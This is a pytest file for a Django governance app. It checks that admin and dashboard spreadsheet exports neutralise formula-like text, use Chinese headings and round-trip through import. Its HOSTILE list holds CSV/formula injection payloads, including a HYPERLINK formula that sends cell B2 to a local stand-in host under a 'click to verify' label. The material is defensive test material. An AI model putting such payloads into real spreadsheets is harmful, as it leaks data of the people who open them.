"""Every spreadsheet export goes through governance.spreadsheets (issue 11, items 9 and 10): text cells
that start like a formula are text, sheets and headings are Chinese, codes stay text, and a file
exported from the admin imports back unchanged."""

import csv
import io
import re
from io import BytesIO
from pathlib import Path

import pytest
from django.contrib import admin
from django.core.cache import cache
from django.urls import reverse
from import_export.mixins import BaseExportMixin
from openpyxl import load_workbook

from governance.imports import IMPORT_FORMATS, SpreadsheetImport
from governance.models import Division, Person
from governance.resources import PersonResource, ScopedResource
from governance.spreadsheets import EXPORT_FORMATS, heading, text_escape, text_unescape
from tests.auth import verified_login
from tests.factories import PersonFactory

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
APPS = ("governance", "civility", "security", "residential", "villages", "integrity")
HOSTILE = [
    '=HYPERLINK("http://127.0.0.1/x?d="&B2,"点此核对")',
    "+1+2",
    "-3+4",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "'=1+2",
]


@pytest.mark.parametrize("value", [*HOSTILE, "张三", "'普通", "", "1.5"])
def test_csv_escaping_is_undone_exactly_on_import(value):
    escaped = text_escape(value)
    assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert text_unescape(escaped) == value


def test_a_heading_carries_its_unit_once():
    assert heading("问题线索（件）", "件") == "问题线索（件）"
    assert heading("问题线索", "件") == "问题线索（件）"
    assert heading("流转面积占承包地", "%") == "流转面积占承包地（%）"
    assert heading("登记人口", "") == "登记人口"


# --- every export path is the one path ------------------------------------------------------------


def test_every_admin_export_uses_the_escaping_formats_and_a_scoped_resource(rf, district_admin):
    request = rf.get("/")
    request.user = district_admin
    exporting = [a for a in admin.site._registry.values() if isinstance(a, BaseExportMixin)]
    assert len(exporting) >= 8  # people, households, divisions, 屋场, plots, compounds, companies, figures
    for model_admin in exporting:
        assert list(model_admin.get_export_formats()) == EXPORT_FORMATS, model_admin
        assert list(model_admin.get_import_formats()) == IMPORT_FORMATS, model_admin
        for resource in model_admin.get_export_resource_classes(request):
            assert issubclass(resource, ScopedResource), resource


FORBIDDEN = {
    "saves a workbook": re.compile(r"\b\w*(book|wb)\w*\.save\("),
    "writes CSV": re.compile(r"csv\.(writer|DictWriter)\("),
    "exports through tablib": re.compile(r"\.export\(\s*[\"'](xlsx|csv|xls)"),
    "answers a spreadsheet itself": re.compile(r"spreadsheetml|text/csv"),
}


def test_no_module_writes_a_spreadsheet_but_governance_spreadsheets():
    offenders = []
    for app in APPS:
        for path in (ROOT / app).rglob("*.py"):
            if "migrations" in path.parts or path == ROOT / "governance" / "spreadsheets.py":
                continue
            text = path.read_text(encoding="utf-8")
            offenders += [f"{path.relative_to(ROOT)} {what}" for what, rx in FORBIDDEN.items() if rx.search(text)]
    assert offenders == []


# --- admin exports ----------------------------------------------------------------------------------


def admin_export(client, fmt: int):
    fields = ["name", "id_number", "phone", "political_status", "division", "note"]
    data = {"format": str(fmt), "resource": "0", **{f"personresource_{f}": "on" for f in fields}}
    response = client.post(reverse("admin:governance_person_export"), data)
    assert response.status_code == 200
    return response.content


@pytest.fixture
def hostile_people(divisions):
    return [PersonFactory(division=divisions["v11"], name=f"人员{i}", note=note) for i, note in enumerate(HOSTILE)]


def test_admin_xlsx_export_writes_text_cells_under_a_chinese_sheet(client, district_admin, hostile_people):
    verified_login(client, district_admin)

    sheet = load_workbook(BytesIO(admin_export(client, 0))).worksheets[0]

    assert sheet.title == "人员"
    assert [c.value for c in sheet[1]] == ["姓名", "身份证号", "联系电话", "政治面貌", "区划代码", "备注"]
    notes = {row[0].value: row[5] for row in sheet.iter_rows(min_row=2)}
    for person in hostile_people:
        cell = notes[person.name]
        # XML keeps no carriage return: a cell's line break is a line feed, as Excel writes it.
        assert (cell.data_type, cell.value) == ("s", person.note.replace("\r", "\n"))
        assert cell.quotePrefix
    id_cell = sheet["B2"]
    assert (id_cell.data_type, id_cell.number_format) == ("s", "@")


def test_admin_csv_export_escapes_formula_text(client, district_admin, hostile_people):
    verified_login(client, district_admin)

    rows = list(csv.DictReader(io.StringIO(admin_export(client, 1).decode("utf-8-sig"), newline="")))

    notes = {row["姓名"]: row["备注"] for row in rows}
    for person in hostile_people:
        assert notes[person.name] == "'" + person.note


@pytest.mark.parametrize("fmt", [0, 1])
def test_people_exported_and_imported_again_are_unchanged(client, district_admin, hostile_people, fmt):
    Person.objects.filter(pk=hostile_people[0].pk).update(phone="0738-8123456")
    for person in hostile_people:  # an import trims the blanks around a cell, tabs and line breaks too
        Person.objects.filter(pk=person.pk).update(note=person.note.strip())
    verified_login(client, district_admin)
    before = list(Person.objects.order_by("pk").values())
    content = admin_export(client, fmt)

    # the admin's import format reads both, told from the bytes
    result = PersonResource(user=district_admin).import_data(SpreadsheetImport().create_dataset(content), dry_run=False)

    assert not result.has_errors() and not result.has_validation_errors()
    assert [(row.import_type, row.diff) for row in result.rows if row.import_type != "skip"] == []
    assert list(Person.objects.order_by("pk").values()) == before


# --- hand-built workbooks -------------------------------------------------------------------------


def test_dashboard_export_escapes_names_and_gives_units_once(client, divisions):
    from tests.factories import user_with_role

    cache.clear()
    Division.objects.filter(pk=divisions["t1"].pk).update(name='=HYPERLINK("http://x")')
    leader = user_with_role("leader", divisions["district"], username="leader_district")
    verified_login(client, leader)

    response = client.get(reverse("dashboard:export", args=[divisions["district"].code]), {"period": "year"})

    workbook = load_workbook(BytesIO(response.content))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    hostile = [c for c in cells if c.value == '=HYPERLINK("http://x")']
    assert hostile and all(c.data_type == "s" and c.quotePrefix for c in hostile)
    headings = [c.value for sheet in workbook.worksheets[1:] for c in sheet[1]]
    assert "问题线索（件）" in headings and not [h for h in headings if "）（" in h]
    codes = [row[0] for row in workbook["下级区划"].iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in codes)
    cache.clear()
